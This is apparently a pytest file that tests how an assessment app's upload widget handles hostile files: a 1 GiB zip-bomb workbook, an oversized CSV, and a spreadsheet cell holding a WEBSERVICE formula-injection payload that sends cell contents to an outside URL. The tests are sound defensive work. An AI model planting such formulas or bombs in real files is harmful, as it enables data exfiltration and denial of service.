"""Hostile uploads into the assessment app (in the kernel, as Voila runs it): every upload goes
through the same limits as a file on disk, and is refused in words in the page, unread."""

from __future__ import annotations

import io
import time
from datetime import UTC, datetime

import openpyxl
import pytest

from tests.core.test_limits import zip_bomb
from toolkit.assess.app import UPLOAD, AssessmentApp
from toolkit.core.paths import SAMPLE_DIR


def uploaded(name: str, content: bytes) -> tuple[dict, ...]:
    """What ipywidgets' FileUpload holds after a browser sent a file."""
    return (
        {
            "name": name,
            "type": "",
            "size": len(content),
            "last_modified": datetime(2026, 12, 1, tzinfo=UTC),
            "content": memoryview(content),
        },
    )


@pytest.fixture
def app():
    app = AssessmentApp()
    app.source.value = UPLOAD
    app.teams_upload.value = uploaded("teams.csv", (SAMPLE_DIR / "teams.csv").read_bytes())
    return app


def test_a_workbook_bomb_uploaded_is_refused_in_words_before_it_is_unzipped(app, tmp_path):
    bomb = zip_bomb(tmp_path / "responses.xlsx", 1024**3).read_bytes()  # unzips to 1 GiB
    started = time.perf_counter()
    app.responses_upload.value = uploaded("responses.xlsx", bomb)
    took = time.perf_counter() - started
    said = app.message.value
    assert "responses.xlsx" in said and "would unzip to 1,024 MB" in said, said
    assert "Traceback" not in said
    assert app.result is None  # nothing was assessed from it
    assert took < 20, f"{took:.1f} s: the bomb was unzipped, not refused"


def test_an_upload_past_the_size_limit_is_refused_unread(app, monkeypatch):
    monkeypatch.setenv("CCT_MAX_INPUT_MB", "1")
    big = b"respondent_id,team_id,COM01\n" + b"r,intake_north,3\n" * 100_000
    app.responses_upload.value = uploaded("big.csv", big)
    said = app.message.value
    assert "big.csv" in said and "larger than the 1 MB" in said, said
    assert app.result is None


def test_a_formula_injection_upload_is_reported_not_evaluated(app):
    book = io.BytesIO()
    sheet = (workbook := openpyxl.Workbook()).active
    sheet.append(["respondent_id", "team_id", "COM01"])
    sheet.append(["r1", "intake_north", '=WEBSERVICE("http://example.org/"&A1)'])
    workbook.save(book)
    app.responses_upload.value = uploaded("formula.xlsx", book.getvalue())
    said = app.message.value
    assert "formula.xlsx" in said and "row 2" in said, said
    assert app.result is None
